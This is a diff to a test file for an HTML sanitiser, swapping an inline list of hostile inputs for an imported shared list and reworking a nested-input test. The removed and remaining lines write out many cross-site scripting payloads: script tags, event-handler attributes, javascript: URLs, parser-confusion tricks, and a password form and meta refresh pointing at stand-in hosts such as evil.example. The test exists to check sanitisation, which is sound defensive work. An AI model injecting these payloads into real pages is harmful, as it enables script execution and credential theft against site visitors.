@@ -5,6 +5,7 @@ import { renderToStaticMarkup } from "react-dom/server"
 import { describe, expect, test } from "vitest"
 import { ServerHtml } from "#app/components/server-html.tsx"
 import { TranslationProvider } from "#app/locales/language.ts"
+import { attacks } from "#tests/hostile/html.ts"
 import { safeHtml } from "./safe-html.server.ts"
 
 /** The markup inside the component's own wrapper. */
@@ -99,78 +100,26 @@ describe("text that operators write", () => {
 })
 
 const hostile = [
-  "<script>alert(1)</script>",
-  "<scr<script>ipt>alert(1)</scr</script>ipt>",
-  "<img src=x onerror=alert(1)>",
-  "<img src='https://a/b.png'onload=alert(1)>",
-  "<img src=javascript:alert(1)>",
-  "<img src='data:text/html,<script>alert(1)</script>'>",
-  "<img srcset='https://evil/x.png 1x' src='//evil/x.png'>",
-  "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
-  "<body onload=alert(1)>x",
-  "<html onfocus=alert(1)>x",
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href=" java\nscript:alert(1)">x</a>',
-  '<a href="java&#115;cript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href="vbscript:x">x</a>',
-  '<a href="https://evil.example" style="position:fixed" class="btn" onclick=alert(1) download ping=/x>x</a>',
+  ...attacks.map(({ html }) => html),
+  '<a href="https://evil.example" style="position:fixed" class="btn" onclick=pwn() download ping=/x>x</a>',
   '<a href="ftp://evil.example">x</a><a href="intent://evil#Intent;end">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="/logout">x</a>',
-  '<a href="https:evil" href="javascript:alert(1)">x</a>',
-  "<svg onload=alert(1)><script>alert(1)</script></svg>",
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  "<svg><style><img src=x onerror=alert(1)></style></svg>",
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math href="javascript:alert(1)">x</math>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  "<object data=javascript:alert(1)></object><embed src=x>",
-  "<form action=https://evil><input name=password><button>x</button></form>",
-  '<input autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button>',
-  '<meta http-equiv=refresh content="0;url=https://evil">',
-  '<base href="https://evil/"><link rel=stylesheet href=https://evil/x.css>',
-  "<style>@import 'https://evil'</style><p style='background:url(https://evil)'>x</p>",
-  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-  "<template><script>alert(1)</script></template>",
-  "<textarea></textarea><img src=x onerror=alert(1)>",
-  "<title><img src=x onerror=alert(1)></title>",
-  "<xmp><img src=x onerror=alert(1)></xmp>",
-  "<plaintext><img src=x onerror=alert(1)>",
-  "<!--><img src=x onerror=alert(1)>-->",
-  "<!-- --!><img src=x onerror=alert(1)> -->",
-  "<![CDATA[<img src=x onerror=alert(1)>]]>",
-  "<b><p></b><i></p><img src=x onerror=alert(1)></i>",
-  "<table><a href=javascript:alert(1)><td><script>alert(1)</script>",
-  "</div></div></body><script>alert(1)</script>",
-  "<details open ontoggle=alert(1)><summary>x</summary></details>",
-  "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
-  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
-  "<x-island data-url=x>x</x-island><copy-button>x</copy-button>",
-  "<p id=login-username class='fixed inset-0' name=getElementById data-x=1 aria-hidden=true>x</p>",
-  "<dialog open>x</dialog><div popover>x</div>",
-  "<img src='https://a' alt='\"><script>alert(1)</script>'>",
-  "<p lang='\" onclick=alert(1)'>x</p>",
-  "<a href='https://evil\" onclick=\"alert(1)'>x</a>",
-  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
-  "<<script>alert(1);//<</script>",
-  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-  "<ol start='1 onclick=alert(1)'><li value=9 type=a>x</ol>",
+  "<p lang='\" onclick=pwn()'>x</p>",
+  "<ol start='1 onclick=pwn()'><li value=9 type=a>x</ol>",
   "<td colspan=1000000 rowspan=1000000>x</td>",
 ]
 
 test.each(hostile)("hostile: %j", html => {
   const markup = shown(html)
   expect(dangers(markup)).toEqual([])
-  expect(markup).not.toMatch(/evil\.css|<script/i)
+  expect(markup).not.toContain("<script")
 })
 
-test("hostile texts in one another and in any order", () => {
-  for (const outer of hostile) {
-    for (const inner of hostile) expect(dangers(shown(`<div>${outer}<p>${inner}`))).toEqual([])
+test("hostile texts in one another", () => {
+  for (const [at, outer] of hostile.entries()) {
+    for (const step of [1, 7, 61, 173]) {
+      const inner = hostile[(at + step) % hostile.length]
+      expect(dangers(shown(`<div>${outer}<p>${inner}`)), `${outer} ${inner}`).toEqual([])
+    }
   }
 })
 
